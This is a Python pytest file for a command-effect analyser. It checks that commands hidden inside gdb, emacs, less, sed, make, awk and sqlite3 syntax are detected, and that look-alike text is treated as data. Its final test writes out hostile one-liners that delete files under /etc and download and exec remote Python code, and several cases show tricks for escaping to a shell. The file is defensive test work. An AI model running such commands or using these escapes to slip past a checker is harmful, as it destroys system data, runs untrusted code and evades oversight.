"""Commands inside the small languages of editors, debuggers and pagers."""

from __future__ import annotations

import pytest

from .world import argvs, effects


@pytest.mark.parametrize(
    "text",
    [
        "gdb -batch -ex 'shell git push' ./app",
        "lldb -o 'platform shell git push'",
        "gdb -ex 'pipe info x | git push'",
        """emacs --batch --eval '(shell-command "git push")'""",
        "less '+!git push' README.md",
        "man -P 'git push' ls",
        "sed -n 's/.*/git push/e' README.md",
        "sed '1e git push' README.md",
        "ssh-agent sh -c 'git push'",
        "machinectl shell web /usr/bin/git push",
        "make SHELL='git push;' all",
    ],
)
def test_the_command_is_found(text: str) -> None:
    assert "git.push" in effects(text)


@pytest.mark.parametrize(
    "text",
    [
        "gdb -batch -ex 'print shell' ./app",
        """emacs --batch --eval '(message "(git push)")'""",
        "less +F README.md",
        "sed 's/e/git push/' README.md",
    ],
)
def test_other_text_is_data(text: str) -> None:
    assert "git.push" not in effects(text)


@pytest.mark.parametrize(
    "text",
    [
        "sed -n '/a/w /opt/x' README.md",
        "sed 's/a/b/w /opt/x' README.md",
        "sed -n '$!N;s/a/b/gpw /opt/x' README.md",
        r"sed '\\%a/b%W /opt/x' README.md",
        "sed -n '/a/{w /opt/x\n}' README.md",
        """sqlite3 a.db '.headers on\n.output /opt/x'""",
        "sqlite3 a.db '.once /opt/x'",
    ],
)
def test_the_file_that_is_written_is_found(text: str) -> None:
    assert "write.outside" in effects(text)


@pytest.mark.parametrize(
    "text",
    ["sed 's/a/w x/' README.md", "sed '/w x/d;s/;w y/z/' README.md", "sed 'a\\\nw x' README.md",
     "awk '$1 > 5 {print ($1 > 2)}' README.md", "sqlite3 a.db 'select 1'"],
)  # fmt: skip
def test_what_looks_like_writing_is_data(text: str) -> None:
    assert not {"write", "write.outside"} & effects(text)


@pytest.mark.parametrize(
    "text",
    [
        "awk '{print | \"sh\"}' README.md",
        "awk '@load \"./x\"' README.md",
        "sqlite3 a.db '.headers on\n.load ./x'",
        """sqlite3 a.db "select writefile('x', 'y')\"""",
    ],
)
def test_code_that_is_not_seen_is_no_looking(text: str) -> None:
    assert effects(text) - {"observe"}


def test_awk_may_write_where_a_variable_says() -> None:
    assert any(name.startswith("write") for name in effects("awk -v f=x '{print > f}' README.md"))


def test_what_matched_is_not_known() -> None:
    assert ("rm", "\x00") in argvs("sed 's/.*/rm &/e' README.md")


def test_functions_that_are_given_by_name() -> None:
    assert "delete.outside" in effects("""php -r 'array_map("unlink", glob("/etc/*"));'""")
    assert "download.exec" in effects(
        "python3 -c 'from urllib.request import urlopen as u; exec(u(\"http://x\").read())'"
    )
